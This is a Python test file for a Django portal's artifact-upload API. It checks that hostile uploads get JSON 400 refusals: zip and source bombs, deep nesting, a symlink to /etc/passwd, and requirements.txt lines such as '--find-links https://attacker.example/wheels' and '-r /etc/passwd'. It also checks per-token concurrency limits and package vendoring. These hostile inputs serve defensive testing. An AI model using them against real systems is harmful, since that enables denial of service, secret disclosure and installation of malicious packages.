"""The artifact upload under hostile input: every refusal a JSON 400 (never a 500 page), bounded
concurrency per token (429), and a package folder's zip vendored like `release --bundle`.

Issue 17 item 4 and issue 23 item 2; the builds are real (pip in the sandbox, from var/wheelhouse).
"""

from __future__ import annotations

import io
import time
import zipfile
from typing import Any

import pytest

from portal.api.uploads import upload_slot
from portal.models import Artifact
from portal.tokens import credentials as tokens
from provisioning.artifacts import PIP_OPTIONS_ENV, WHEELHOUSE_ENV, wheelhouse_dir
from provisioning.bundle import DEFAULT_ROOT

pytestmark = pytest.mark.django_db
UPLOAD = "/api/v1/artifacts/"
HANDLER = "def h(event, context):\n    return 1\n"


@pytest.fixture
def operator(token: Any, api: Any) -> Any:
    return api(token("operator"))


def zip_of(entries: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def upload(client: Any, data: bytes, handler: str, name: str = "fn.zip") -> Any:
    file = io.BytesIO(data)
    file.name = name
    return client.upload(UPLOAD, {"zip": file, "handler": handler})


def refused(response: Any) -> list[str]:
    """The problems of a JSON 400, after checking it is one."""
    assert response.status_code == 400, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    return [p["message"] for p in response.json()["problems"]]


@pytest.mark.heavy
def test_the_source_bomb_is_a_json_400_at_once(operator: Any) -> None:
    """Issue 17 case: a 2 KB zip whose handler is 500,000 lines of `x=1` took 18.8 s and 730 MB."""
    data = zip_of({"app.py": HANDLER + "x=1\n" * 500_000})
    started = time.perf_counter()
    problems = refused(upload(operator, data, "app.h", "bomb.zip"))
    assert time.perf_counter() - started < 5
    assert "entry 'app.py' inflates" in problems[0]
    assert not Artifact.objects.exists()


@pytest.mark.heavy
def test_the_zip_bomb_is_a_json_400(operator: Any) -> None:
    """Issue 17 case: a 245 KB zip bomb cost 490 MB; refused from its headers."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("app.py", HANDLER)
        info = zipfile.ZipInfo("blob.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as out:
            for _ in range(250):
                out.write(bytes(1024 * 1024))
    assert len(buffer.getvalue()) < 300_000
    problems = refused(upload(operator, buffer.getvalue(), "app.h", "bomb.zip"))
    assert "entry 'blob.bin' is 262144000 bytes unzipped" in problems[0]


@pytest.mark.heavy
def test_a_deeply_nested_expression_is_a_json_400_not_a_500_page(operator: Any) -> None:
    """Issue 17 case: a deeply nested expression gave a 500 HTML page (MemoryError)."""
    data = zip_of({"app.py": HANDLER + "x = " + "-" * 200_000 + "1\n"})
    problems = refused(upload(operator, data, "app.h", "nested.zip"))
    assert problems[0].startswith("app.py: nests too deeply")


@pytest.mark.parametrize(
    "line", ["--no-binary :all:", "--find-links https://attacker.example/wheels", "-r /etc/passwd"]
)
def test_a_package_zip_with_pip_options_is_a_json_400_naming_the_line(operator: Any, line: str) -> None:
    """Issue 17 case: requirements.txt with `--no-binary :all:`, `--find-links`, `-r /etc/passwd`:
    refused by line number, the content never echoed, nothing built or stored."""
    data = zip_of(
        {
            "fn/__init__.py": "",
            "fn/handler.py": HANDLER,
            "fn/requirements.txt": f"jmespath==1.1.0\n{line}\n",
        }
    )
    response = upload(operator, data, "fn.handler.h")
    problems = refused(response)
    assert problems == [
        "fn/requirements.txt:2: a pip option is not allowed; one requirement per line as name==version "
        '(extras name[extra]==version), optionally "; MARKER" and --hash=sha256:HEX; comments and '
        "blank lines; no pip options, URLs, paths or version ranges"
    ]
    body = response.content.decode()
    assert line not in body and "root:" not in body and "attacker" not in body
    assert not Artifact.objects.exists()


def test_a_symlink_entry_is_a_json_400(operator: Any) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("app.py", HANDLER)
        link = zipfile.ZipInfo("secret.py")
        link.external_attr = (0o120777 << 16) | 0
        zf.writestr(link, "/etc/passwd")
    problems = refused(upload(operator, buffer.getvalue(), "app.h"))
    assert problems == ["upload fn.zip: entry 'secret.py' is a symbolic link"]


def test_concurrent_uploads_per_token_are_bounded(token: Any, api: Any, settings: Any) -> None:
    """Each token holds at most ENVPORT_API_MAX_CONCURRENT_UPLOADS builds; past it a JSON 429
    with Retry-After, at once. Another token is not held back by this one's."""
    settings.ENVPORT_API_MAX_CONCURRENT_UPLOADS = 2
    value = token("operator")
    busy, other = api(value), api(token("operator"))
    held = tokens.find(value)
    assert held is not None
    data = zip_of({"app.py": HANDLER})
    with upload_slot(f"token:{held.pk}"), upload_slot(f"token:{held.pk}"):
        response = upload(busy, data, "app.h")
        assert response.status_code == 429 and response["Retry-After"] == "10"
        assert "at most 2 at a time" in response.json()["error"]
        assert upload(other, data, "app.h").status_code == 201
    assert upload(busy, data, "app.h").status_code == 200  # slots given back, refused or not


def test_a_ready_zips_missing_import_hint_names_the_real_fix(operator: Any) -> None:
    """Issue 23 case: the refusal told the author to list the package in requirements.txt,
    which was already the case; the API did not vendor. The hint now says what works."""
    data = zip_of({"app/__init__.py": "", "app/main.py": "import aws_lambda_powertools\n" + HANDLER})
    [problem] = refused(upload(operator, data, "app.main.h"))
    assert "'aws_lambda_powertools'" in problem
    assert "send the package folder's zip, whose requirements the portal vendors" in problem


@pytest.mark.heavy
def test_a_package_folder_zip_is_vendored_like_release_bundle(
    operator: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # R-REL-1
    """Issue 23 case: `zip -qr fn.zip fn` of a package folder with a requirements.txt was refused
    (the API did not vendor). Now it is built like `release --bundle fn/`: Powertools from the
    wheelhouse, in the sandbox, the same bytes as the folder's build."""
    monkeypatch.delenv(PIP_OPTIONS_ENV, raising=False)
    monkeypatch.delenv(WHEELHOUSE_ENV, raising=False)
    assert wheelhouse_dir().is_dir()
    handler = (
        "from aws_lambda_powertools import Logger\n\nLOG = Logger()\n\n\n"
        "def lambda_handler(event, context):\n    return 'ok'\n"
    )
    pins = (DEFAULT_ROOT / "requirements.txt").read_text()
    data = zip_of(
        {"fn/__init__.py": "", "fn/handler.py": handler, "fn/requirements.txt": pins, "fn/README.md": "x"}
    )
    response = upload(operator, data, "fn.handler.lambda_handler")
    assert response.status_code == 201, response.content[:1000]
    record = Artifact.objects.get(sha256=response.json()["sha256"])
    with zipfile.ZipFile(io.BytesIO(bytes(record.data))) as zf:
        names = set(zf.namelist())
    assert {"fn/handler.py", "aws_lambda_powertools/__init__.py", "jmespath/__init__.py"} <= names
    assert "fn/README.md" not in names and "fn/requirements.txt" not in names

    from provisioning.artifacts import build_artifact

    folder = tmp_path / "fn"
    folder.mkdir()
    for name in ("__init__.py", "handler.py", "requirements.txt"):
        (folder / name).write_bytes(zipfile.ZipFile(io.BytesIO(data)).read(f"fn/{name}"))
    assert build_artifact(folder).sha256 == record.sha256  # what `release --bundle fn/` builds


def test_every_caller_builds_through_the_same_sandboxed_build(
    cli: Any, make_env: Any, users: Any, operator: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 23 case: artifacts were built in three places. `release --bundle` (a folder or a
    .zip), the console's release form and the API's upload all refuse a requirements.txt with
    `-r SECRET` alike: the same line-numbered problem, the secret's content nowhere."""
    from django.test import Client
    from django.urls import reverse

    from portal.console import views as console

    sent: list[Any] = []
    monkeypatch.setattr(console, "dispatch", sent.append)
    env = make_env("dev1", status="ready")
    secret = tmp_path / "secret"
    secret.write_text("root:x:0:0:TOP-SECRET-CONTENT\n")
    files = {"__init__.py": "", "handler.py": HANDLER, "requirements.txt": f"jmespath==1.1.0\n-r {secret}\n"}
    folder = tmp_path / "fn"
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text)
    data = zip_of({f"fn/{name}": text for name, text in files.items()})
    (tmp_path / "fn.zip").write_bytes(data)
    expected = "fn/requirements.txt:2: a pip option is not allowed"

    for bundle in (str(folder), str(tmp_path / "fn.zip")):
        result = cli("release", "dev1", "--bundle", bundle, "--handler", "fn.handler.h", "--json")
        assert result.code == 2 and expected in result.err, result.err
        assert "TOP-SECRET" not in result.err + result.out

    browser = Client()
    browser.force_login(users["operator"])
    page = browser.post(
        reverse("admin:portal_environment_release", args=[env.pk]),
        {"zip": io.BytesIO(data), "handler": "fn.handler.h"},
        follow=True,
    )
    shown = " ".join(str(m) for m in page.context["messages"])
    assert expected in shown and "TOP-SECRET" not in page.content.decode()

    response = upload(operator, data, "fn.handler.h")
    assert refused(response)[0].startswith(expected) and "TOP-SECRET" not in response.content.decode()
    assert not Artifact.objects.exists() and sent == []
